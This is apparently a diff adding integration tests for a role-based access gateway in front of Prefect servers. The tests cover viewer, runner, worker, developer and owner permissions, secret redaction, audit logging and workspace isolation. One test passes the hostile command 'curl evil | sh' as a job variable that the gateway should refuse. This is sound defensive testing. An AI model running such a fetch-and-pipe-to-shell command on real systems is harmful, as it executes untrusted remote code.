@@ -1,0 +1,112 @@
+"""Each role through the gateway with Prefect's own Python client, against real Prefect servers."""
+
+from __future__ import annotations
+
+import uuid
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+from prefect.blocks.system import Secret
+from prefect.client.orchestration import SyncPrefectClient, get_client
+from prefect.exceptions import PrefectHTTPStatusError
+from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings
+
+pytestmark = pytest.mark.integration
+
+SECRET_VALUE = "gw-Secret-Value-9f2c"  # must never come back to anyone without the secrets permission
+
+
+@contextmanager
+def as_user(team: Any, user: str, workspace: str = "core") -> Iterator[SyncPrefectClient]:
+    with temporary_settings({PREFECT_API_URL: team.api(workspace), PREFECT_API_AUTH_STRING: team.tokens[user]}), \
+            get_client(sync_client=True) as client:
+        yield client
+
+
+def _status(call: Any) -> int:
+    try:
+        call()
+    except PrefectHTTPStatusError as exc:
+        return exc.response.status_code
+    return 200
+
+
+@pytest.fixture(scope="module")
+def deployment(team: Any) -> dict[str, Any]:
+    """A flow, a deployment and a Secret block, created by the developer through the gateway."""
+    with as_user(team, "dev") as client:
+        flow_id = client.create_flow_from_name(f"gw-flow-{uuid.uuid4().hex[:6]}")
+        deployment_id = client.create_deployment(flow_id=flow_id, name="gw-deployment", parameters={"x": 1})
+        with temporary_settings({PREFECT_API_URL: team.api(), PREFECT_API_AUTH_STRING: team.tokens["dev"]}):
+            Secret(value=SECRET_VALUE).save("gw-secret", overwrite=True)
+    return {"flow_id": flow_id, "deployment_id": deployment_id}
+
+
+def test_viewer_reads_but_changes_nothing(team: Any, deployment: dict[str, Any]) -> None:
+    with as_user(team, "vera") as client:
+        assert client.read_deployment(deployment["deployment_id"]).name == "gw-deployment"
+        assert isinstance(client.read_flow_runs(), list)
+        assert _status(lambda: client.create_flow_run_from_deployment(deployment["deployment_id"])) == 403
+        assert _status(lambda: client.create_flow_from_name("not-allowed")) == 403
+        assert _status(lambda: client.delete_deployment(deployment["deployment_id"])) == 403
+        block = client.read_block_document_by_name("gw-secret", "secret", include_secrets=False)
+        assert SECRET_VALUE not in str(block.data)
+        assert _status(lambda: client.read_block_document_by_name("gw-secret", "secret", include_secrets=True)) == 403
+
+
+def test_runner_starts_with_parameters_but_not_with_job_variables(team: Any, deployment: dict[str, Any]) -> None:
+    with as_user(team, "rune") as client:
+        run = client.create_flow_run_from_deployment(deployment["deployment_id"], parameters={"x": 2})
+        assert run.parameters == {"x": 2}
+        assert _status(lambda: client.create_flow_run_from_deployment(
+            deployment["deployment_id"], job_variables={"command": "curl evil | sh"})) == 403
+        assert _status(lambda: client.create_flow_run_from_deployment(
+            deployment["deployment_id"], work_queue_name="elsewhere")) == 403
+    with team.client("rune") as http:
+        reply = http.patch(f"/w/core/api/deployments/{deployment['deployment_id']}", json={"paused": True})
+        assert reply.status_code == 403
+    starts = [r for r in team.audit() if r["action"] == "deployment.run" and r["user"] == "rune"]
+    assert starts and str(run.id) in starts[-1]["detail"]["flow_runs"]
+    assert team.running.gateway.store.run_starter("core", str(run.id)) == "rune"
+
+
+def test_worker_reads_secrets_and_the_read_is_audited(team: Any, deployment: dict[str, Any]) -> None:
+    with as_user(team, "svc-worker") as client:
+        block = client.read_block_document_by_name("gw-secret", "secret", include_secrets=True)
+        assert block.data["value"] == SECRET_VALUE
+    reads = [r for r in team.audit() if r["action"] == "secret.read" and r["user"] == "svc-worker"]
+    assert reads and "gw-secret" in reads[-1]["path"]
+    assert SECRET_VALUE not in (team.data_dir / "audit.jsonl").read_text()
+
+
+def test_developer_writes_and_owner_administers(team: Any, deployment: dict[str, Any]) -> None:
+    with as_user(team, "dev") as client:
+        assert _status(lambda: client.read_variables()) == 200
+    with team.client("dev") as http:
+        assert http.post("/w/core/api/variables/", json={"name": f"v{uuid.uuid4().hex[:6]}",
+                                                         "value": "1"}).status_code == 201
+    with team.client("vera") as http:
+        assert http.post("/w/core/api/variables/", json={"name": "nope", "value": "1"}).status_code == 403
+        assert http.get("/w/core/api/admin/version").status_code == 200  # the UI's own login check
+    with team.client("otto") as http:
+        assert http.get("/w/core/api/admin/settings").status_code == 200
+    with team.client("dev") as http:
+        assert http.get("/w/core/api/admin/settings").status_code == 403
+
+
+def test_workspaces_are_isolated(team: Any, deployment: dict[str, Any]) -> None:
+    with team.client("dana") as http:
+        # dana's token is for datacenter: refused on core, whatever the id
+        reply = http.get(f"/w/core/api/deployments/{deployment['deployment_id']}")
+        assert reply.status_code == 401 and "datacenter" in reply.json()["detail"]
+        # and core's ids do not exist in datacenter
+        assert http.get(f"/w/datacenter/api/deployments/{deployment['deployment_id']}").status_code == 404
+    with team.client("vera") as http:
+        assert http.post("/w/datacenter/api/flows/filter", json={}).status_code == 401
+    browser = team.login("dana")
+    assert browser.get("/w/core/api/flows/filter").status_code in (403, 405)
+    assert browser.post("/w/core/api/flows/filter", json={},
+                        headers={"origin": team.url}).status_code == 403
+    assert browser.post("/w/datacenter/api/flows/filter", json={}, headers={"origin": team.url}).status_code == 200
